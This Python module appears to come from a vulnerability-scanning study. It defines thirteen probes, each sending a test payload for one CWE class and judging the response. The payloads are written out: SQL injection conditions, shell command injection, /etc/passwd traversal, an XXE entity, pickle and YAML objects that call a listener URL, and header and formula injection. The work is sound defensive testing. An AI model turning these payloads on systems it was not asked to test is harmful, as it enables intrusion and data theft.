"""What the prober sends to one parameter, a class of flaw each, and which answer counts as evidence.

Source: the classes are those of CWE; the payloads are the plain ones of any testing guide, in as few
requests as will do. None does harm: they add numbers, read a public file, wait a second, or call the prober.
"""

import base64
import re
import time
from collections.abc import Callable
from dataclasses import dataclass

from dti_core.studies.vuln_priority.methods.scanners.client import Answer
from dti_core.studies.vuln_priority.methods.scanners.listener import Ears

SUM, PRODUCT = "1237*7919", "9795803"
FAR = "canary.example"
SQL_ERROR = re.compile(r"sqlite3|OperationalError|SQL syntax|unrecognized token|near \S+ syntax error", re.I)
#: How a condition may be put into a statement: after a text, with the rest cut off or not, or after a number.
CONDITIONS = (
    "{usual}' OR {a}={b} -- ", "{usual}' AND {a}={b} -- ", "{usual}' OR '{a}'='{b}", "1 OR {a}={b}"
)  # fmt: skip
COMMANDS = ("{usual}; {command}", "$({command})", "{usual}' ; {command} ; '", "{usual} | {command}")
#: A file that every Unix shows to every process, and what stands in it.
FILE, SHOWN = "/etc/passwd", re.compile(r"root:[^:\n]*:0:0:")
WAIT_SECONDS = 0.5


@dataclass(frozen=True, slots=True)
class Target:
    """One parameter under test: how to ask with a value, a usual value, and a token of its own."""

    ask: Callable[[str], Answer]
    usual: str
    ears: Ears
    token: str


@dataclass(frozen=True, slots=True)
class Evidence:
    """What an answer showed; `sure` where nothing but the flaw explains it."""

    cwe: int
    rule: str
    text: str
    sure: bool


Probe = Callable[[Target], Evidence | None]


def markup_or_template(target: Target) -> Evidence | None:
    """A tag that comes back as it was, or a template's sum that comes back done."""
    tag = f"<dti{target.token}>"
    answer = target.ask(f"{tag}{{{{{SUM}}}}}")
    if PRODUCT in answer.body:
        return Evidence(1336, "template-evaluated", f"{{{{{SUM}}}}} came back as {PRODUCT}", True)
    if tag in answer.body and "html" in answer.header("Content-Type"):
        return Evidence(79, "markup-reflected", "a tag came back unescaped in HTML", True)
    return None


def sql_error(target: Target) -> Evidence | None:
    """A quote breaks what two quotes do not."""
    one = target.ask(f"{target.usual}'")
    if one.status < 500 and not SQL_ERROR.search(one.body):
        return None
    two = target.ask(f"{target.usual}''")
    if two.status >= 500 or SQL_ERROR.search(two.body) or two.status == 0:
        return None
    said = bool(SQL_ERROR.search(one.body))
    shown = "an SQL error" if said else f"status {one.status}"
    return Evidence(89, "sql-error", f"one quote gives {shown}, two do not", said)


def sql_condition(target: Target) -> Evidence | None:
    """Two true conditions give one answer, a false one another."""
    for form in CONDITIONS:
        true, same, false = (form.format(usual=target.usual, a=a, b=b) for a, b in ((3, 3), (4, 4), (3, 4)))
        first, last = target.ask(true), target.ask(false)
        if _differ(first, last) and not _differ(first, target.ask(same)):
            return Evidence(89, "sql-condition", "a true and a false condition give different answers", True)
    return None


def _differ(one: Answer, other: Answer) -> bool:
    return (one.status, one.body) != (other.status, other.body)


def command(target: Target) -> Evidence | None:
    """A shell's sum comes back done; or a shell waits when it is told to, twice, and else not."""
    for form in COMMANDS:
        if PRODUCT in target.ask(form.format(usual=target.usual, command=f"echo $(({SUM}))")).body:
            return Evidence(78, "command-run", f"echo $(({SUM})) came back as {PRODUCT}", True)
    for form in COMMANDS[:2]:
        long, short = (form.format(usual=target.usual, command=f"sleep {s}") for s in (WAIT_SECONDS, 0))
        if _waited(target, long) and not _waited(target, short) and _waited(target, long):
            return Evidence(78, "command-waited", f"a wait of {WAIT_SECONDS} s was kept, twice", True)
    return None


def _waited(target: Target, value: str) -> bool:
    start = time.monotonic()
    target.ask(value)
    return time.monotonic() - start >= WAIT_SECONDS


def code(target: Target) -> Evidence | None:
    """An expression of Python comes back done, or calls the prober."""
    if PRODUCT in target.ask(SUM).body:
        return Evidence(95, "code-evaluated", f"{SUM} came back as {PRODUCT}", True)
    token = f"{target.token}code"
    address = f"{target.ears.address}/{token}"
    target.ask(f"__import__('urllib.request').request.urlopen('{address}')")
    called = target.ears.called(token)
    return Evidence(95, "code-called", "an expression called the prober", True) if called else None


def path(target: Target) -> Evidence | None:
    """A file of the system is shown, by its full path or from above."""
    up = "../" * 12
    for value in (FILE, f"{up}{FILE[1:]}", f"....//....//{up}{FILE[1:]}"):
        if SHOWN.search(target.ask(value).body):
            return Evidence(22, "file-shown", "a file outside of the service was shown", True)
    return None


def redirect(target: Target) -> Evidence | None:
    """The answer sends the browser to a host that the value names."""
    for value in (f"http://{FAR}/", f"//{FAR}/"):
        answer = target.ask(value)
        if 300 <= answer.status < 400 and re.match(rf"(https?:)?//{FAR}", answer.header("Location")):
            return Evidence(601, "redirected-away", "Location names the host that was sent", True)
    return None


def call_out(target: Target) -> Evidence | None:
    """The service asks the address that was sent to it."""
    token = f"{target.token}out"
    target.ask(f"{target.ears.address}/{token}")
    called = target.ears.called(token)
    return Evidence(918, "called-out", "the service called the prober", True) if called else None


def xml(target: Target) -> Evidence | None:
    """An external entity shows a file of the system."""
    entity = f'<!DOCTYPE r [<!ENTITY c SYSTEM "file://{FILE}">]>'
    answer = target.ask(f'<?xml version="1.0"?>{entity}<r>&c;</r>')
    shown = SHOWN.search(answer.body)
    return Evidence(611, "entity-shown", "an external entity was resolved", True) if shown else None


def objects(target: Target) -> Evidence | None:
    """A serialised object calls the prober when it is loaded, from pickle or from YAML."""
    for kind in ("pickle", "yaml"):
        token = f"{target.token}{kind}"
        address = f"{target.ears.address}/{token}"
        # protocol 0 by hand: call urllib.request.urlopen(address)
        pickled = f"curllib.request\nurlopen\n(V{address}\ntR.".encode()
        yaml = f'!!python/object/apply:urllib.request.urlopen ["{address}"]'
        target.ask(base64.b64encode(pickled).decode() if kind == "pickle" else yaml)
        if target.ears.called(token):
            return Evidence(502, f"{kind}-called", "a loaded object called the prober", True)
    return None


def header(target: Target) -> Evidence | None:
    """A line break in a value starts a header of its own."""
    answer = target.ask(f"{target.usual}\r\nX-Dti-{target.token}: 1")
    split = bool(answer.header(f"X-Dti-{target.token}"))
    return Evidence(113, "header-split", "a line break started a header", True) if split else None


def format_text(target: Target) -> Evidence | None:
    """A doubled brace comes back single, as Python's formatting makes it."""
    shown = f"dti{{{target.token}}}" in target.ask(f"dti{{{{{target.token}}}}}").body
    return Evidence(134, "format-evaluated", "a doubled brace came back single", True) if shown else None


def formula(target: Target) -> Evidence | None:
    """A table of comma-separated values holds a cell that a spreadsheet would compute."""
    answer = target.ask(f"={SUM}")
    cell = re.search(rf'(^|[,;\t\n])"?={re.escape(SUM)}', answer.body)
    kept = cell and "csv" in answer.header("Content-Type")
    return Evidence(1236, "formula-kept", "a formula stands at the start of a cell", True) if kept else None


PROBES: tuple[Probe, ...] = (
    markup_or_template, sql_error, sql_condition, command, code, path, redirect, call_out, xml, objects,
    header, format_text, formula,
)  # fmt: skip
